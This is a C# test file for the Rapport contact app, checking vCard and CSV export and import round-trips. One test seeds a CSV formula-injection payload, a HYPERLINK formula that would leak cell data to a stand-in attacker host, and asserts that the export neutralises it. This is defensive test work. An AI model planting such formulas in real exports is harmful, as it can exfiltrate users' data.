using Microsoft.EntityFrameworkCore;
using Rapport.App.Export;
using Rapport.Data.Tests.Support;
using Rapport.Domain.Contacts;
using Rapport.Formats.Csv;
using Rapport.Formats.Records;
using Rapport.Formats.VCard;

namespace Rapport.Data.Tests.Export;

public class ExportContactsTest
{
    private static readonly DateTime At = new(2026, 11, 20, 9, 0, 0, DateTimeKind.Utc);

    [Fact]
    public async Task VCardAndCsv_CarryCategoriesKindTrustKeyPlayerAndWantToMeet()
    {
        var ct = TestContext.Current.CancellationToken;
        await using var test = await TestDatabase.CreateAsync("sqlite");
        var store = await test.MigratedStoreAsync();
        await using var db = store.Open();
        var ana = new Contact("Ana Silva", At) { Kind = RelationshipKind.Alliance, KeyPlayer = true, WantToMeet = true };
        ana.SetTrust(1);
        ana.SetCategories(["mentor", "coworker"]);
        ana.AddTag("Lisbon");
        db.Contacts.Add(ana);
        db.Contacts.Add(new Contact("Bo Li", At));
        await db.SaveChangesAsync(ct);

        using var vcard = new MemoryStream();
        await new ExportContacts(db).ExecuteAsync(ExportFormat.VCard, vcard, ct);
        vcard.Position = 0;
        using var csv = new MemoryStream();
        await new ExportContacts(db).ExecuteAsync(ExportFormat.Csv, csv, ct);
        csv.Position = 0;

        foreach (var read in new[] { VCardReader.Read(vcard, "x.vcf").ToList(), ContactCsv.Read(csv, "x.csv").ToList() })
        {
            Assert.Equal(2, read.Count);
            var a = read[0];
            Assert.Equal(["coworker", "mentor"], a.Categories);
            Assert.Equal(["Lisbon"], a.Labels);
            Assert.Equal(("alliance", 1, true, true), (a.RelationshipKind, a.Trust, a.KeyPlayer, a.WantToMeet));
            var b = read[1];
            Assert.Empty(b.Categories);
            Assert.Equal(("acquaintance", 2, false, false), (b.RelationshipKind, b.Trust, b.KeyPlayer, b.WantToMeet));
        }
    }

    [Fact]
    public async Task VCardAndCsv_CarryIndustryFunctionSeniorityClosenessTierHowWeMetAndTheIntroducer()
    {
        var ct = TestContext.Current.CancellationToken;
        await using var test = await TestDatabase.CreateAsync("sqlite");
        var store = await test.MigratedStoreAsync();
        await using var db = store.Open();
        var bo = new Contact("Bo Li", At);
        var gone = new Contact("Cy Gone", At);
        db.Contacts.AddRange(bo, gone);
        await db.SaveChangesAsync(ct);
        var ana = new Contact("Ana Silva", At)
        {
            Industry = "fintech", Function = "engineering", Seniority = Seniority.VicePresident, TierPin = Tier.Close,
            HowWeMet = "At PyCon 2019", IntroducedById = bo.Id,
        };
        ana.SetCloseness(0.8);
        var dee = new Contact("Dee Park", At) { IntroducedById = gone.Id };
        db.Contacts.AddRange(ana, dee);
        gone.DeletedAt = At;
        await db.SaveChangesAsync(ct);

        using var vcard = new MemoryStream();
        await new ExportContacts(db).ExecuteAsync(ExportFormat.VCard, vcard, ct);
        vcard.Position = 0;
        using var csv = new MemoryStream();
        await new ExportContacts(db).ExecuteAsync(ExportFormat.Csv, csv, ct);
        csv.Position = 0;

        foreach (var read in new[] { VCardReader.Read(vcard, "x.vcf").ToList(), ContactCsv.Read(csv, "x.csv").ToList() })
        {
            Assert.Equal(["Bo Li", "Ana Silva", "Dee Park"], read.Select(r => r.DisplayName));
            var (b, a, d) = (read[0], read[1], read[2]);
            Assert.Equal(("fintech", "engineering", "vice-president", 0.8, "close"), (a.Industry, a.Function, a.Seniority, a.Closeness, a.Tier));
            Assert.Equal("At PyCon 2019", a.HowWeMet);
            // The introducer by the key of its own row in the same file.
            Assert.Equal(b.ExternalKey, a.IntroducedBy);
            Assert.Equal((null, null, null, null, null, null, null), (b.Industry, b.Function, b.Seniority, b.Closeness, b.Tier, b.HowWeMet, b.IntroducedBy));
            // An introducer in the trash is not in the file, so it is not named.
            Assert.Null(d.IntroducedBy);
        }
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task AnExportImportedIntoAnEmptyDatabase_KeepsIndustryFunctionSeniorityClosenessTierHowWeMetAndTheIntroducer(string provider)
    {
        var ct = TestContext.Current.CancellationToken;
        await using var source = await TestDatabase.CreateAsync(provider);
        var store = await source.MigratedStoreAsync();
        var files = new Dictionary<ExportFormat, string>();
        await using (var db = store.Open())
        {
            // Ana comes before her introducer in the file: the link is made once both are stored.
            var ana = new Contact("Ana Silva", At) { Industry = "fintech", Function = "engineering", Seniority = Seniority.VicePresident, TierPin = Tier.Close, HowWeMet = "At PyCon 2019" };
            ana.SetCloseness(0.8);
            db.Contacts.Add(ana);
            var bo = new Contact("Bo Li", At);
            db.Contacts.Add(bo);
            await db.SaveChangesAsync(ct);
            ana.IntroducedById = bo.Id;
            await db.SaveChangesAsync(ct);
            foreach (var format in new[] { ExportFormat.VCard, ExportFormat.Csv })
            {
                files[format] = Path.Combine(Path.GetTempPath(), $"rapport-export-{Guid.NewGuid():N}.{format}");
                await using var file = File.Create(files[format]);
                await new ExportContacts(db).ExecuteAsync(format, file, ct);
            }
        }
        try
        {
            foreach (var (format, path) in files)
            {
                await using var target = await TestDatabase.CreateAsync(provider);
                var empty = await target.MigratedStoreAsync();
                await using (var db = empty.Open())
                    await new App.Import.ImportNetwork(db, TimeProvider.System).ExecuteAsync(new App.Import.ImportRequest
                    {
                        Kind = format == ExportFormat.VCard ? App.Import.ImportSourceKind.VCard : App.Import.ImportSourceKind.Csv, Path = path,
                    }, ct);
                await using var check = empty.Open();
                var ana = await check.Contacts.SingleAsync(c => c.DisplayName == "Ana Silva", ct);
                var bo = await check.Contacts.SingleAsync(c => c.DisplayName == "Bo Li", ct);
                Assert.Equal(("fintech", "engineering", Seniority.VicePresident, 0.8, Tier.Close, "At PyCon 2019"),
                    (ana.Industry, ana.Function, ana.Seniority, ana.Closeness, ana.TierPin, ana.HowWeMet));
                Assert.Equal(bo.Id, ana.IntroducedById);
                Assert.Null(bo.IntroducedById);
            }
        }
        finally
        {
            foreach (var path in files.Values) File.Delete(path);
        }
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task ACsvExportOfFormulaLikeValues_IsDefused_AndImportsIntoAnEmptyDatabaseAsTheSameExport(string provider)
    {
        var ct = TestContext.Current.CancellationToken;
        const string name = "=HYPERLINK(\"http://evil.example/?x=\"&A1)";
        await using var source = await TestDatabase.CreateAsync(provider);
        var store = await source.MigratedStoreAsync();
        var file = Path.GetTempFileName();
        try
        {
            string first;
            await using (var db = store.Open())
            {
                var evil = new Contact(name, At) { GivenName = "=1+1", FamilyName = "Li", Company = "+cmd", Title = "-1+2", Notes = "@SUM(A1:A9)" };
                evil.AddPhone("+49 30 1234", "Mobile");
                evil.SetDate(ImportantDateKind.Birthday, 12, 1, null);
                db.Contacts.Add(evil);
                await db.SaveChangesAsync(ct);
                await using (var stream = File.Create(file)) await new ExportContacts(db).ExecuteAsync(ExportFormat.Csv, stream, ct);
                first = await File.ReadAllTextAsync(file, ct);
            }
            Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\"", first, StringComparison.Ordinal);
            Assert.Contains(",'+cmd,'-1+2,", first, StringComparison.Ordinal);
            Assert.Contains("'+49 30 1234\tMobile", first, StringComparison.Ordinal);

            await using var target = await TestDatabase.CreateAsync(provider);
            var empty = await target.MigratedStoreAsync();
            await using (var db = empty.Open())
                await new App.Import.ImportNetwork(db, TimeProvider.System).ExecuteAsync(new App.Import.ImportRequest { Kind = App.Import.ImportSourceKind.Csv, Path = file }, ct);
            await using var check = empty.Open();
            var imported = await Microsoft.EntityFrameworkCore.EntityFrameworkQueryableExtensions.SingleAsync(check.Contacts, ct);
            Assert.Equal((name, "=1+1", "+cmd", "-1+2", "@SUM(A1:A9)"), (imported.DisplayName, imported.GivenName, imported.Company, imported.Title, imported.Notes));
            using var again = new MemoryStream();
            await new ExportContacts(check).ExecuteAsync(ExportFormat.Csv, again, ct);
            Assert.Equal(first, System.Text.Encoding.UTF8.GetString(again.ToArray()));
        }
        finally
        {
            File.Delete(file);
        }
    }

    [Fact]
    public void TheFormatsSeniorityAndTierNames_AreTheDomainsOwn()
    {
        Assert.Equal(Enum.GetValues<Seniority>().Where(s => s != Seniority.Unknown).Select(s => App.Common.Input.Kebab(s)), ImportedContact.Seniorities);
        Assert.Equal(Enum.GetValues<Tier>().Select(t => App.Common.Input.Kebab(t)), ImportedContact.Tiers);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task AnExportImportedIntoAnEmptyDatabase_KeepsTheRelationshipFields(string provider)
    {
        var ct = TestContext.Current.CancellationToken;
        await using var source = await TestDatabase.CreateAsync(provider);
        var store = await source.MigratedStoreAsync();
        var folder = Directory.CreateTempSubdirectory("rapport-export-");
        try
        {
            await using (var db = store.Open())
            {
                var ana = new Contact("Ana Silva", At) { Kind = RelationshipKind.Alliance, KeyPlayer = true, WantToMeet = true };
                ana.SetTrust(0);
                ana.SetCategories(["mentor", "coworker"]);
                db.Contacts.Add(ana);
                await db.SaveChangesAsync(ct);
                foreach (var (format, name) in new[] { (ExportFormat.VCard, "all.vcf"), (ExportFormat.Csv, "all.csv") })
                {
                    await using var file = File.Create(Path.Combine(folder.FullName, name));
                    await new ExportContacts(db).ExecuteAsync(format, file, ct);
                }
            }
            foreach (var (kind, name) in new[] { (App.Import.ImportSourceKind.VCard, "all.vcf"), (App.Import.ImportSourceKind.Csv, "all.csv") })
            {
                await using var target = await TestDatabase.CreateAsync(provider);
                var empty = await target.MigratedStoreAsync();
                await using (var db = empty.Open())
                    await new App.Import.ImportNetwork(db, TimeProvider.System).ExecuteAsync(new App.Import.ImportRequest { Kind = kind, Path = Path.Combine(folder.FullName, name) }, ct);
                await using var check = empty.Open();
                var ana = await Microsoft.EntityFrameworkCore.EntityFrameworkQueryableExtensions.SingleAsync(
                    Microsoft.EntityFrameworkCore.EntityFrameworkQueryableExtensions.Include(check.Contacts, c => c.Categories), ct);
                Assert.Equal(["coworker", "mentor"], ana.Categories.Select(c => c.Category).Order());
                Assert.Equal((RelationshipKind.Alliance, 0, true, true), (ana.Kind, ana.Trust, ana.KeyPlayer, ana.WantToMeet));
            }
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }
}
